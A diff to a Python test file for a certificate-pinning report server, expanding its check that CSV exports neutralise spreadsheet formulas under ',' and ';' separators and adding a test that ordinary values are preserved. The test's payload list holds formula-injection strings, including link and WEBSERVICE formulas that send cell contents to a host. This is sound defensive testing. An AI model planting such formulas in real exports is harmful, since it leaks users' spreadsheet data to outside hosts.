@@ -95,20 +95,68 @@ def test_incident_detail_marks_matching_certificates(
     assert len(report["chain"]) == 2
 
 
-def test_csv_export_neutralises_formulas(
+# App ids that a spreadsheet would run: at the start of a cell, and behind each separator a
+# spreadsheet in some locale splits on (';' in much of Europe), behind spaces and quotes, and
+# on a new line.
+CSV_ATTACKS = [
+    '=HYPERLINK("http://127.0.0.1:9/?"&A1)',
+    "x;=WEBSERVICE(A1)",
+    "x,=1+1",
+    "x; -2+3",
+    'x;"=1+1"',
+    "x\t@SUM(1)",
+    "x\r\n+1+1",
+    "\uff1d1+1",
+]
+
+
+def _formula_cells(text: str, delimiter: str) -> list[str]:
+    """Cells that a spreadsheet splitting on *delimiter* would evaluate (quote-aware, as
+    spreadsheets are, and trimming the spaces and quotes some of them trim)."""
+    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+    return [cell for row in rows for cell in row
+            if cell.lstrip(' \t\r\n"')[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]
+
+
+def test_csv_export_runs_no_formula_in_any_locale(
     serve: Callable[..., LiveServer], sqlite_url: str, make_report: Any
 ) -> None:
-    """CSV rows carry the reports; a cell that a spreadsheet would run as a formula is defused."""
+    """Formula text in a report (at a cell's start or after a ';' a European spreadsheet splits
+    on) comes out inert whether the CSV is read with ',' or ';' as the separator."""
     server = serve(db_url=sqlite_url)
     with server.client() as client:
-        client.post("/reports", json=make_report(app_id="=HYPERLINK(\"http://evil\")"))
-        client.post("/reports", json=make_report(app_id="plain"))
+        for attack in CSV_ATTACKS:
+            assert client.post("/reports", json=make_report(app_id=attack)).status_code == 201
+        exports = [client.get("/api/reports.csv").text, client.get("/api/incidents.csv").text]
+    for text in exports:
+        assert {d: _formula_cells(text, d) for d in ",;"} == {",": [], ";": []}
+    rows = list(csv.DictReader(io.StringIO(exports[0], newline="")))
+    assert len(rows) == len(CSV_ATTACKS)
+    assert {r["app_id"].replace("'", "") for r in rows} == set(CSV_ATTACKS)  # only defused
+
+
+def test_csv_export_is_rfc4180_and_keeps_plain_values(
+    serve: Callable[..., LiveServer], sqlite_url: str, make_report: Any
+) -> None:
+    """Twin: every field is quoted, lines end in CRLF, and ordinary values (an issuer DN with
+    '=' and ',', base64 pins with '+' and '/', dates with '-') come back exactly."""
+    server = serve(db_url=sqlite_url)
+    with server.client() as client:
+        stored = client.post("/reports", json=make_report(app_id="com.example.app")).json()
+        client.post("/reports", json=make_report(app_id="com.example.app"))
         response = client.get("/api/reports.csv")
         incidents = client.get("/api/incidents.csv")
+        api = client.get(f"/api/reports/{stored['id']}").json()
     assert response.headers["content-type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(response.text)))
-    assert sorted(r["app_id"] for r in rows) == ["'=HYPERLINK(\"http://evil\")", "plain"]
-    assert next(iter(csv.DictReader(io.StringIO(incidents.text))))["count"] == "2"
+    lines = response.text.split("\r\n")
+    assert lines[-1] == ""
+    assert all(line.startswith('"') and line.endswith('"') for line in lines[:-1])
+    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    row = next(r for r in rows if r["id"] == str(stored["id"]))
+    assert (row["app_id"], row["issuer"], row["received_at"]) == (
+        "com.example.app", "CN=mitmproxy,O=tlspin testing", api["received_at"])
+    assert row["observed_pins"] == " ".join(api["observed_pins"])
+    assert next(iter(csv.DictReader(io.StringIO(incidents.text, newline=""))))["count"] == "2"
 
 
 def test_resolve_and_reopen(shared: LiveServer, make_report: Any) -> None:
